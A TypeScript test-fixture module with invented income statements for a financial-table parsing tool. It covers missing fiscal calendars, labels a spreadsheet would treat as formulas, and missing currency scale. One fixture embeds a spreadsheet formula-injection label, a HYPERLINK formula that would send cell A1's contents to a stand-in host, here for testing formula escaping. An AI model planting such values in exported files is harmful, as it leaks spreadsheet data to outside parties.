import { readFileSync } from "node:fs";

/** The bundled sample, as text. */
export const SAMPLE_TEXT = readFileSync("assets/sample/iij-1q04.txt", "utf8");

/** Invented: quarters named by an issuer whose fiscal year the text does not tell. */
export const WITHOUT_CALENDAR = [
  "Example Gadgets Inc.",
  "",
  "Consolidated statements of income (JPY in millions)",
  "\t1Q24\t1Q23",
  "Revenue\t1,200\t1,000",
  "Cost of revenue\t700\t600",
  "Gross profit\t500\t400",
  "Operating expenses\t300\t250",
  "Operating income\t200\t150",
  "",
].join("\n");

/** Invented: labels that a sheet would take for formulas. */
export const WITH_FORMULA_LABEL = [
  "Example Gadgets Inc.",
  "",
  "Results for the first quarter of the fiscal year ending March 31, 2025 (FY 2024).",
  "",
  "Consolidated statements of income (JPY in millions)",
  "\tThree Months Ended Jun 30, 2024\tThree Months Ended Jun 30, 2023",
  '=HYPERLINK("https://example.com/?"&A1,"Revenue")\t1,200\t1,000',
  "-Cost of revenue\t700\t600",
  "Gross profit\t500\t400",
  "",
].join("\n");

/** Invented: dated columns, and amounts of which nothing says the currency or the scale. */
export const WITHOUT_SCALE = [
  "Example Gadgets Inc.",
  "",
  "Results for the first quarter of the fiscal year ending March 31, 2025 (FY 2024).",
  "",
  "Consolidated statements of income",
  "\tThree Months Ended Jun 30, 2024\tThree Months Ended Jun 30, 2023",
  "Revenue\t$1,200\t$1,000",
  "Cost of revenue\t700\t600",
  "Gross profit\t500\t400",
  "",
].join("\n");
